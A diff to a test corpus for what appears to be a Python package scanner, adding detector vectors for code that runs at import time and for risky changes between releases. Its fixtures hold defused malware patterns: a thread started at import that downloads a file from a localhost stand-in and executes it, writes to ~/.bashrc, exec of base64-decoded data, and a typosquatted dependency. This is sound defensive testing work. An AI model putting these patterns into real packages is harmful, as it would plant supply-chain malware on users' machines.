@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import base64
 import codecs
+import json
 from collections.abc import Iterator
 
 from tests.corpus.archives import Member
@@ -61,6 +62,43 @@ def _honest_code() -> Vectors:
     )
 
 
+def _import_time_behaviour() -> Vectors:
+    yield module("process", "import subprocess\nsubprocess.run(['true'])\n")
+    yield module("through_alias", "from os import system as s\ns('true')\n")
+    yield module("through_function", "import os\n\ndef check():\n    os.popen('true')\n\nif True:\n    check()\n")
+    yield module("in_class_body", "import socket\n\nclass A:\n    S = socket.create_connection(('127.0.0.1', 9))\n")
+    yield module("in_default", "import subprocess\n\ndef f(x=subprocess.check_output(['true'])):\n    return x\n")
+    yield module("in_thread", "import os, threading\nthreading.Thread(target=lambda: os.system('true')).start()\n")
+    yield module("own_type_checking", "import os\nTYPE_CHECKING = 1\nif TYPE_CHECKING:\n    os.system('true')\n")
+    yield wheel(
+        "like_lightning",
+        {
+            "like_lightning/__init__.py": "from ._runtime import start\n",
+            "like_lightning/_runtime/__init__.py": "from threading import Thread\nfrom .start import go\n"
+            "Thread(target=go, daemon=True).start()\n",
+            "like_lightning/_runtime/start.py": "import subprocess\nfrom urllib.request import urlretrieve\n\n"
+            "def go():\n    path, _ = urlretrieve('http://127.0.0.1/bun')\n    subprocess.Popen([path, 'router.js'])\n",
+        },
+    )
+    yield module("shell_profile", "from pathlib import Path\n(Path.home() / '.bashrc').open('a').write('# a vector')\n")
+
+
+def _imports_define() -> Vectors:
+    yield module("guarded", "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['true'])\n")
+    yield module(
+        "for_types",
+        "import subprocess\nfrom typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    A = subprocess.run(['true'])\n",
+    )
+    yield module("functions", "import subprocess, requests\n\ndef run():\n    return subprocess.run(['true'])\n")
+    yield module(
+        "client",
+        "import requests\n\nclass C:\n    def get(self, u):\n        return requests.get(u)\n\nDEFAULT = C()\n",
+    )
+    yield wheel(
+        "not_imported", {"not_imported/__init__.py": "", "not_imported/tool.py": "import os\nos.system('true')\n"}
+    )
+
+
 def _credential_paths() -> Vectors:
     yield module(
         "collector",
@@ -97,9 +135,6 @@ def _unread_python() -> Vectors:
     yield module("second_line", b"#!/usr/bin/python\r# coding: raw_unicode_escape\nx = 1\n")
     yield module("deep", "import base64\nx = " + "-" * 5000 + "1\nexec(base64.b64decode(x))\n")
     yield module("newer_syntax", f"import base64\nx = 1 such as no Python\nexec(base64.b64decode('{_B64}'))\n")
-    by_hash = {"by_hash/a.py": "", "by_hash/__pycache__/a.cpython-311.pyc": b"\xa7\r\r\n\x01" + bytes(11)}
-    yield wheel("by_hash", {"by_hash/__init__.py": "", **by_hash})
-    yield wheel("compiled", {"compiled/__init__.py": "", "compiled/hidden.pyc": bytes(16)})
 
 
 def _read_python() -> Vectors:
@@ -117,11 +152,46 @@ def _python_scripts() -> Vectors:
     yield wheel("python_script", members=[script])
 
 
+_OLD = {
+    "name": "demo",
+    "version": "1.0",
+    "size": 200_000,
+    "scripts": ["demo"],
+    "top_levels": ["demo"],
+    "requires": ["numpy"],
+    "behaviours": [["starts a program", "subprocess.run"]],
+}
+
+
+def change(name: str, **new: object) -> tuple[str, bytes]:
+    """Write two profiles of one project, of which the second differs in some fields."""
+    profiles = {"previous": _OLD, "new": _OLD | {"version": "1.1"} | new}
+    return f"{name}.json", json.dumps(profiles, indent=1).encode() + b"\n"
+
+
+def _new_in_release() -> Vectors:
+    yield change("startup-file", startup=["demo.pth"])
+    yield change("network-at-import", behaviours=[["reaches the network", "requests.get"]])
+    yield change("large-script", large=[["demo/_runtime/router.js", 11 << 20]], size=12 << 20)
+    yield change("native-code", native=["demo/_speed.so"])
+    yield change("command", scripts=["demo", "demo-agent"])
+    yield change("dependency", requires=["numpy", "numpi"])
+    yield change("top-level", top_levels=["demo", "tests"])
+
+
+def _next_release() -> Vectors:
+    yield change("same")
+    yield change("larger", size=300_000, requires=[])
+    yield change("other-program", behaviours=[["starts a program", "subprocess.check_output"]])
+
+
 CHECKS = {
     "credential-paths": (_credential_paths, _one_service),
     "decodes-and-executes": (_decodes_and_executes, _honest_code),
     "encoded-blob": (_encoded_blob, _no_blob),
     "foreign-scripts": (_foreign_scripts, _python_scripts),
+    "import-time-behaviour": (_import_time_behaviour, _imports_define),
+    "new-in-release": (_new_in_release, _next_release),
     "hidden-text": (_hidden_text, _shown_text),
     "unread-python": (_unread_python, _read_python),
 }
